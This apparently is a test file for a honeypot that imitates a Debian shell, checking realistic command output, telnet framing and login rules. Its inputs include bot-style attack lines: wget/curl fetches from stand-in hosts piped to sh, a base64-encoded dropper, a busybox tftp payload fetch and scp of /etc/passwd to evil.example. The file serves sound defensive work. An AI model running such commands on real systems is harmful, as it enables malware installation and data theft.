import { describe, expect, test } from "bun:test";
import { LineEditor, type LineEvent } from "../../src/honeypots/cowrie/lineedit";
import { Shell, type ShellOptions } from "../../src/honeypots/cowrie/shell/shell";
import { escapeIac, TelnetDecoder } from "../../src/honeypots/cowrie/telnet-codec";
import { allows, parseUserDb } from "../../src/honeypots/cowrie/userdb";

const NOW = new Date("2026-11-22T01:07:41Z");

function shell(opts: Partial<ShellOptions> = {}): Shell {
  return new Shell({ hostname: "db-prod-2", username: "root", interactive: true, tty: false, now: () => NOW, remoteIp: "203.0.113.9", ...opts });
}

describe("the fake shell", () => {
  test("identity commands tell one consistent Debian 12 story", () => {
    const sh = shell();
    expect(sh.run("uname -a; whoami; id; hostname; uname -snrm").stdout).toBe(
      "Linux db-prod-2 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\n" +
        "root\nuid=0(root) gid=0(root) groups=0(root)\ndb-prod-2\nLinux db-prod-2 6.1.0-26-amd64 x86_64\n",
    );
    expect(sh.run("uname").stdout).toBe("Linux\n");
    expect(sh.run("uname -z")).toMatchObject({ stderr: "uname: invalid option -- 'z'\nTry 'uname --help' for more information.\n", status: 1 });
    expect(sh.run("cat /etc/os-release | head -n 1").stdout).toBe('PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n');
    const user = shell({ username: "admin" });
    expect(user.run("whoami; id -u; pwd").stdout).toMatch(/^admin\nuid=1000\(admin\).*\n\/home\/admin\n$/);
    expect(user.prompt()).toBe("admin@db-prod-2:~$ ");
    expect(user.run("cat /etc/shadow").stderr).toBe("cat: /etc/shadow: Permission denied\n");
  });

  test("the pipelines bots use to size a box", () => {
    const sh = shell();
    expect(sh.run("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'").stdout).toBe("Intel(R) Xeon(R) CPU E5-2680 v4 @\n");
    expect(sh.run("cat /proc/cpuinfo | grep name | wc -l").stdout).toBe("2\n");
    expect(sh.run("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'").stdout).toBe("1967 305 1183 1 479 1662\n");
    expect(sh.run("free").stdout).toBe(
      "               total        used        free      shared  buff/cache   available\n" +
        "Mem:         2014956      312344     1211488        1072      491124     1702612\n" +
        "Swap:              0           0           0\n",
    );
    expect(sh.run("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'").stdout).toBe("974M\n");
    expect(sh.run("ls -lh $(which ls)").status).toBe(0);
    expect(sh.run("nproc; crontab -l").output).toBe("2\nno crontab for root\n");
    expect(sh.run("w").stdout).toContain("root     pts/0    203.0.113.9");
  });

  test("lists, quoting, variables, substitution and redirections", () => {
    const sh = shell();
    expect(sh.run("false && echo no || echo yes; echo $?").stdout).toBe("yes\n0\n");
    expect(sh.run(`echo 'a  b' "c $HOME" \\$HOME # comment`).stdout).toBe("a  b c /root $HOME\n");
    expect(sh.run("echo -e '\\x41\\x42\\n'; echo -n x").stdout).toBe("AB\n\nx");
    expect(sh.run("echo `whoami`-$(uname -m)").stdout).toBe("root-x86_64\n");
    expect(sh.run("X=1; export Y=2; echo $X$Y").stdout).toBe("12\n");
    expect(sh.run("cd /tmp && echo hi > a && echo there >> a; cat a; ls").stdout).toBe("hi\nthere\na\n");
    expect(sh.run("cat nope 2>/dev/null; echo $?").output).toBe("1\n");
    expect(sh.run("cat nope 2>&1 | wc -l").stdout).toBe("1\n");
    expect(sh.run("sh -c 'cd /; pwd' && bash -c 'exit 7'; echo $? $PWD")).toMatchObject({ stdout: "/\n7 /tmp\n", exit: false });
    expect(sh.run("echo $(cd /; wget http://x.example/a)").effects).toEqual([{ kind: "file_download", url: "http://x.example/a" }]);
    expect(sh.run("echo $(printf 'a\\n  b') \"$(printf 'c\\nd')\"").stdout).toBe("a b c\nd\n");
    expect(sh.run("echo 'uname -m' | sh").stdout).toBe("x86_64\n");
    expect(sh.run("ls ;;")).toMatchObject({ stderr: "-bash: syntax error near unexpected token `;'\n", status: 2 });
  });

  test("unknown commands: bash's wording at a prompt and under bash -c, and an effect", () => {
    expect(shell().run("foo bar; constructor; __proto__")).toMatchObject({
      stderr: "-bash: foo: command not found\n-bash: constructor: command not found\n-bash: __proto__: command not found\n",
      status: 127,
      effects: [
        { kind: "command.failed", input: "foo bar" },
        { kind: "command.failed", input: "constructor" },
        { kind: "command.failed", input: "__proto__" },
      ],
    });
    expect(shell({ interactive: false }).run("foo").stderr).toBe("bash: line 1: foo: command not found\n");
    expect(shell().run("./x; /tmp")).toMatchObject({ stderr: "-bash: ./x: No such file or directory\n-bash: /tmp: Is a directory\n", effects: [] });
  });

  test("downloads are recorded, never fetched, and fail as on a firewalled box", () => {
    const sh = shell();
    const r = sh.run("cd /tmp; wget http://198.51.100.7/bins.sh; curl -O https://evil.example/x; busybox tftp -g -r m.arm 198.51.100.8; busybox ECCHI");
    expect(r.effects).toEqual([
      { kind: "file_download", url: "http://198.51.100.7/bins.sh" },
      { kind: "file_download", url: "https://evil.example/x" },
      { kind: "file_download", url: "tftp://198.51.100.8/m.arm" },
    ]);
    expect(r.stderr).toBe(
      "--2026-11-22 01:07:41--  http://198.51.100.7/bins.sh\nConnecting to 198.51.100.7:80... failed: Connection refused.\n" +
        "curl: (6) Could not resolve host: evil.example\ntftp: timeout\nECCHI: applet not found\n",
    );
    expect(r.status).toBe(127);
    expect(shell().run("wget evil.example/a.sh -O- | sh").effects).toEqual([{ kind: "file_download", url: "http://evil.example/a.sh" }]);
  });

  test("cd, ls and the prompt; ls lays out columns only on a terminal", () => {
    const sh = shell({ tty: true });
    expect(sh.run("cd /nope").stderr).toBe("-bash: cd: /nope: No such file or directory\n");
    sh.run("cd /usr/../etc");
    expect(sh.prompt()).toBe("root@db-prod-2:/etc# ");
    expect(sh.run("ls /").stdout).toBe(
      "bin   dev  home        lib    lost+found  mnt  proc  run   srv  tmp  var\nboot  etc  initrd.img  lib64  media       opt  root  sbin  sys  usr  vmlinuz\n",
    );
    expect(shell().run("ls /home /root").stdout).toBe("/home:\n\n/root:\n");
    expect(shell().run("ls -l /").stdout).toContain("lrwxrwxrwx 1 root root     7 Oct  7  2024 bin -> usr/bin\n");
    expect(shell().run("ls /x").output).toBe("ls: cannot access '/x': No such file or directory\n");
  });

  test("exit and logout end the session with a status", () => {
    expect(shell().run("echo a; exit 3; echo b")).toMatchObject({ stdout: "a\n", status: 3, exit: true });
    expect(shell().run("logout")).toMatchObject({ exit: true, status: 0 });
    expect(shell({ interactive: false }).run("logout")).toMatchObject({ exit: false, stderr: "bash: line 1: logout: not login shell: use `exit'\n" });
  });

  test("bounded: nested shells stop, written files fill a small disk", () => {
    const sh = shell();
    let nested = "uname";
    for (let i = 0; i < 20; i++) nested = `sh -c ${JSON.stringify(nested)}`;
    expect(sh.run(nested).stdout).toBe("");
    const chunk = "x".repeat(4000);
    let full = "";
    for (let i = 0; i < 40 && !full; i++) full = sh.run(`echo ${chunk} >> /tmp/big`).stderr;
    expect(full).toBe("-bash: /tmp/big: No space left on device\n");
    expect(sh.run("cat /proc/cpuinfo;".repeat(1800)).output.length).toBeLessThan(300 * 1024);
    expect(sh.run(`cat ${"/proc/cpuinfo ".repeat(1800)}| wc -c`).stdout).toMatch(/^26\d{4}\n$/);
  });
});

describe("commands bots use to tell a honeypot", () => {
  test("ps aux has BSD's columns, ps -ef UNIX's, over one process table; a terminal cuts lines at 80", () => {
    const sh = shell();
    const pid = sh.pid;
    const aux = sh.run("ps aux").stdout.split("\n");
    expect(aux[0]).toBe("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND");
    // Boot processes started on a day before today, shown as procps shows one: "Oct14".
    expect(aux[1]).toMatch(/^root {11}1 {2}0\.0 {2}0\.6 167740 12156 \? {8}Ss {3}[A-Z][a-z]{2}\d\d {3}0:09 \/sbin\/init$/);
    expect(aux.slice(-4)).toEqual([
      `root    ${String(pid - 3).padStart(8)}  0.0  0.3  17900  6520 ?        Ss   01:07   0:00 sshd: root@pts/0`,
      `root    ${String(pid).padStart(8)}  0.0  0.2   7968  4620 pts/0    Ss   01:07   0:00 -bash`,
      `root    ${String(pid + 7).padStart(8)}  0.0  0.2  11084  4460 pts/0    R+   01:07   0:00 ps aux`,
      "",
    ]);
    expect(aux).toContain("message+     502  0.0  0.2   9116  4780 ?        Ss   " + aux[1]!.slice(54, 59) + "   0:00 /usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only");
    const ef = sh.run("ps -ef").stdout.split("\n");
    expect(ef[0]).toBe("UID          PID    PPID  C STIME TTY          TIME CMD");
    expect(ef.slice(-3)).toEqual([`root    ${String(pid).padStart(8)} ${String(pid - 3).padStart(7)}  0 01:07 pts/0    00:00:00 -bash`, `root    ${String(pid + 7).padStart(8)} ${String(pid).padStart(7)}  0 01:07 pts/0    00:00:00 ps -ef`, ""]);
    // procps reads `-aux` as `aux`, while `-u root` stays UNIX's user selection.
    expect(sh.run("ps -aux | head -n 1; ps aux --sort=-%mem | head -n 1; ps -u root | head -n 1").stdout).toBe(`${aux[0]}\n${aux[0]}\n    PID TTY          TIME CMD\n`);
    expect(sh.run("ps ax | head -n 1; ps").stdout).toBe(`    PID TTY      STAT   TIME COMMAND\n    PID TTY          TIME CMD\n${String(pid).padStart(7)} pts/0    00:00:00 bash\n${String(pid + 7).padStart(7)} pts/0    00:00:00 ps\n`);
    // BSD selection: without `a` only the user's own processes, without `x` only those on a terminal.
    const user = shell({ username: "admin" });
    expect(user.run("ps u").stdout.split("\n").map((l) => l.slice(0, 16))).toEqual(["USER         PID", `admin   ${String(user.pid).padStart(8)}`, `admin   ${String(user.pid + 7).padStart(8)}`, ""]);
    expect(user.run("ps aux | grep sshd: | wc -l").stdout).toBe("3\n");
    const lengths = (text: string) => Math.max(...text.split("\n").map((l) => l.length));
    expect(lengths(shell({ tty: true }).run("ps aux").stdout)).toBe(80);
    expect(lengths(shell({ tty: true }).run("ps auxww").stdout)).toBeGreaterThan(132);
  });

  test("enable lists bash 5.2's builtins as enable -a does and takes builtin names silently", () => {
    const sh = shell();
    const list = sh.run("enable").stdout.split("\n");
    expect(list.length - 1).toBe(61);
    expect(list.slice(0, 5)).toEqual(["enable .", "enable :", "enable [", "enable alias", "enable bg"]);
    expect(sh.run("enable -a").stdout).toBe(list.join("\n"));
    expect(sh.run("enable -s | wc -l; enable echo; enable -n test; echo $?").output).toBe("16\n0\n");
    expect(sh.run("enable ls")).toMatchObject({ stderr: "-bash: enable: ls: not a shell builtin\n", status: 1 });
    expect(sh.run("enable -z")).toMatchObject({ stderr: "-bash: enable: -z: invalid option\nenable: usage: enable [-a] [-dnps] [-f filename] [name ...]\n", status: 2 });
    expect(sh.run("enable -f x.so x").stderr).toBe("-bash: enable: cannot open shared object x.so: x.so: cannot open shared object file: No such file or directory\n");
    expect(sh.run("which enable; type -t enable 2>/dev/null").stdout).toBe("");
  });

  test("base64 encodes and decodes stdin and files as GNU coreutils, with its errors", () => {
    const sh = shell();
    expect(sh.run("printf 'hello world' | base64; printf 'hello world' | base64 -w 4; printf '' | base64; echo hi | base64 -w0").stdout).toBe(
      "aGVsbG8gd29ybGQ=\naGVs\nbG8g\nd29y\nbGQ=\naGkK",
    );
    expect(sh.run(`printf '%s' ${"a".repeat(100)} | base64`).stdout).toBe(`${"YWFh".repeat(19)}\n${"YWFh".repeat(14)}YQ==\n`);
    expect(sh.run("cd /tmp; echo secret > f; base64 f > f.b64; base64 --decode f.b64; base64 -d - < f.b64").stdout).toBe("secret\nsecret\n");
    expect(sh.run("printf 'aGVs\\nbG8=\\n' | base64 -d; echo aGk=aGk= | base64 -d").stdout).toBe("hellohihi");
    // Decoding stops at the first bad character, keeping what came before it; -i skips such characters.
    expect(sh.run("echo 'aGk=YQ' | base64 -d")).toMatchObject({ stdout: "hia", stderr: "base64: invalid input\n", status: 1 });
    expect(sh.run("echo 'a!Gk=' | base64 -d")).toMatchObject({ stdout: "", stderr: "base64: invalid input\n", status: 1 });
    expect(sh.run("echo 'a!Gk=' | base64 -di")).toMatchObject({ stdout: "hi", stderr: "", status: 0 });
    const errors = ["base64 a b", "base64 nofile", "base64 /tmp", "base64 -w x", "base64 -w", "base64 -z", "base64 --foo"].map((c) => sh.run(c)).map((r) => [r.stderr, r.status]);
    const tryHelp = "Try 'base64 --help' for more information.\n";
    expect(errors).toEqual([
      [`base64: extra operand ‘b’\n${tryHelp}`, 1],
      ["base64: nofile: No such file or directory\n", 1],
      ["base64: read error: Is a directory\n", 1],
      ["base64: invalid wrap size: ‘x’\n", 1],
      [`base64: option requires an argument -- 'w'\n${tryHelp}`, 1],
      [`base64: invalid option -- 'z'\n${tryHelp}`, 1],
      [`base64: unrecognized option '--foo'\n${tryHelp}`, 1],
    ]);
    expect(sh.run("base64 --version | head -n 1; which base64").stdout).toBe("base64 (GNU coreutils) 9.1\n/usr/bin/base64\n");
  });

  test("a base64 dropper runs through the shell and its download is recorded", () => {
    const r = shell().run("echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC43L2Iuc2g7IHNoIGIuc2gK | base64 -d | sh");
    expect(r.effects).toEqual([{ kind: "file_download", url: "http://198.51.100.7/b.sh" }]);
    expect(r.stderr).toBe("--2026-11-22 01:07:41--  http://198.51.100.7/b.sh\nConnecting to 198.51.100.7:80... failed: Connection refused.\nbash: b.sh: No such file or directory\n");
  });

  test("scp: OpenSSH's usage, a refused connection for another host (sources recorded), cp for local copies", () => {
    const sh = shell();
    const usage =
      "usage: scp [-346ABCOpqRrsTv] [-c cipher] [-D sftp_server_path] [-F ssh_config]\n" +
      "           [-i identity_file] [-J destination] [-l limit] [-o ssh_option]\n" +
      "           [-P port] [-S program] [-X sftp_option] source ... target\n";
    expect(sh.run("scp")).toMatchObject({ stdout: "", stderr: usage, status: 1, effects: [] });
    expect(sh.run("scp -r onlyone")).toMatchObject({ stderr: usage, status: 1 });
    expect(sh.run("scp -z a b").stderr).toBe(`scp: unknown option -- z\r\n${usage}`);
    expect(sh.run("scp -P 2222 root@198.51.100.7:/tmp/m.arm evil.example:x /tmp/")).toMatchObject({
      stderr: "ssh: connect to host 198.51.100.7 port 2222: Connection refused\r\nscp: Connection closed\r\n",
      status: 255,
      effects: [
        { kind: "file_download", url: "scp://root@198.51.100.7:2222/tmp/m.arm" },
        { kind: "file_download", url: "scp://evil.example:2222/x" },
      ],
    });
    expect(sh.run("scp /etc/passwd bot@evil.example:")).toMatchObject({
      stderr: "ssh: Could not resolve hostname evil.example: Temporary failure in name resolution\r\nscp: Connection closed\r\n",
      effects: [],
    });
    expect(sh.run("cd /tmp; echo x > a; scp a b && cat b; scp nofile c").output).toBe("x\ncp: cannot stat 'nofile': No such file or directory\n");
    expect(sh.run("which scp").stdout).toBe("/usr/bin/scp\n");
  });
});

describe("the line editor", () => {
  function feed(editor: LineEditor, bytes: string | number[]): LineEvent[] {
    const data = typeof bytes === "string" ? Buffer.from(bytes, "latin1") : Uint8Array.from(bytes);
    return [...data].map((b) => editor.push(b)).filter((e): e is LineEvent => e !== null);
  }

  test("echoes, erases whole UTF-8 characters, and takes CR, CR LF and CR NUL as one Enter", () => {
    const out: string[] = [];
    const editor = new LineEditor((d) => out.push(typeof d === "string" ? d : Buffer.from(d).toString("latin1")), 4095, true);
    expect(feed(editor, [...Buffer.from("caf\u00e9"), 0x7f, 0x65, 0x0d, 0x0a, 0x6c, 0x73, 0x0d, 0x00, 0x70, 0x0d])).toEqual([
      { type: "line", text: "cafe" },
      { type: "line", text: "ls" },
      { type: "line", text: "p" },
    ]);
    expect(out.join("")).toBe("caf\u00c3\u00a9\b \be\r\nls\r\np\r\n");
  });

  test("^C interrupts, ^D on an empty line is EOF, escape sequences vanish, long lines are cut", () => {
    const editor = new LineEditor(() => {}, 5, false);
    expect(feed(editor, "ab\x03")).toEqual([{ type: "interrupt" }]);
    expect(feed(editor, "x\x04\x7f\x04")).toEqual([{ type: "eof" }]);
    expect(feed(editor, "l\x1b[A\x1bOBs\r")).toEqual([{ type: "line", text: "ls" }]);
    expect(feed(editor, "abcdefgh\r")).toEqual([{ type: "line", text: "abcde" }]);
  });
});

describe("telnet framing", () => {
  test("negotiations and subnegotiations come out of the data, even split across chunks", () => {
    const decoder = new TelnetDecoder();
    const a = decoder.decode(Uint8Array.from([0x61, 255, 253]));
    const b = decoder.decode(Uint8Array.from([1, 255, 255, 255, 250, 31, 0, 80]));
    const c = decoder.decode(Uint8Array.from([255, 240, 0x62]));
    expect([a, b, c].map((r) => [...r.data])).toEqual([[0x61], [255], [0x62]]);
    expect(b.negotiations).toEqual([{ verb: 253, option: 1 }]);
    expect([...escapeIac(Uint8Array.from([1, 255, 2]))]).toEqual([1, 255, 255, 2]);
  });
});

describe("the userdb", () => {
  test("first matching rule wins; * and ! as in Cowrie", () => {
    const rules = parseUserDb("root:!root, root:*\nadmin:admin,*:guest");
    expect(allows(rules, "root", "root")).toBe(false);
    expect(allows(rules, "root", "anything")).toBe(true);
    expect(allows(rules, "admin", "admin")).toBe(true);
    expect(allows(rules, "admin", "x")).toBe(false);
    expect(allows(rules, "bob", "guest")).toBe(true);
    expect(allows(parseUserDb("bad-entry,,"), "bad-entry", "")).toBe(false);
  });
});
